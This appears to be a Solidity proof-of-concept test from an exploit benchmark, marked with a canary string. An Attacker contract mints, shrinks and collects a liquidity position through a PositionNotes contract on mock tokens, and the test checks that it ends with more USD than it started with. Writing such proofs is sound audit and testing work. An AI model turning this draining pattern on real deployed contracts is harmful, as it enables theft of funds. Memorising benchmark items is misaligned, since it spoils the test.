// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

// assay-canary-3a71a22d-8b3a-4569-81eb-5d57136d8a16
import "../Base.sol";

contract Attacker {
    function run(PositionNotes notes, IPool main, IERC20 grain, IERC20 usd) external {
        usd.approve(address(notes), type(uint256).max);
        grain.approve(address(notes), type(uint256).max);
        (uint256 id, uint128 liquidity, , ) = notes.mint(
            INotes.Request(address(main), -100, 100, 19_000e18, 19_000e18, 0, 0, address(this), block.timestamp)
        );
        notes.decrease(id, liquidity, 0, 0, block.timestamp);
        notes.collect(id, address(this), type(uint128).max, type(uint128).max);
    }
}

contract Proof is Base {
    Attacker private other;

    function start() internal override {
        other = new Attacker();
        usd.mint(address(other), 20_000e18);
        grain.mint(address(other), 20_000e18);
    }

    function exploit() public {
        other.run(notes, main, grain, usd);
    }

    function test_Exploit() public {
        exploit();
        require(usd.balanceOf(address(other)) >= 20_200e18, "no gain");
    }

    function target() public view override returns (address) {
        return address(notes);
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
